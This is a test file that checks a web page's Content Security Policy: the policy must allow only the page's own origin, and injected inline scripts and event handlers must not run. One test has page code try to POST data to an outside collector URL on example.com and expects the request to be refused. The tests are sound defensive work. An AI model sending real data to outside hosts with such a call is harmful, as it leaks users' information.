import { expect, it } from "vitest";

import { openApp } from "#tests/support/open-app.ts";
import { expectTrouble } from "#tests/support/trouble.ts";

it("B6 the page itself forbids everything that does not come from its own origin", async () => {
  const page = await openApp();
  const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");

  expect(policy).toMatch(/^default-src 'self';/);
  expect(policy).not.toMatch(/unsafe|\*|https?:/);
});

it("B6 a script that was slipped into the page does not run", async () => {
  const page = await openApp();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'slipped in'";
    document.head.append(script);
  });

  await expectTrouble(/securitypolicyviolation: script-src-elem inline|inline script/i);
  expect(await page.title()).not.toBe("slipped in");
});

it("B6 text is not run as code", async () => {
  const page = await openApp();
  // In a task of the page itself: what the test evaluates is exempt from the policy.
  await page.evaluate(() => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "document.title = 'slipped in'");
    document.body.append(button);
    button.click();
  });

  await expectTrouble(/securitypolicyviolation: script-src-attr inline|inline event handler/i);
  expect(await page.title()).not.toBe("slipped in");
});

it("B6 nothing is sent to another origin, though a script may try", async () => {
  const page = await openApp();
  const outcome = await page.evaluate(() =>
    fetch("https://example.com/collect", { method: "POST", body: "scores" }).then(
      () => "sent",
      () => "refused",
    ),
  );

  expect(outcome).toBe("refused");
  await expectTrouble(/example\.com/);
});
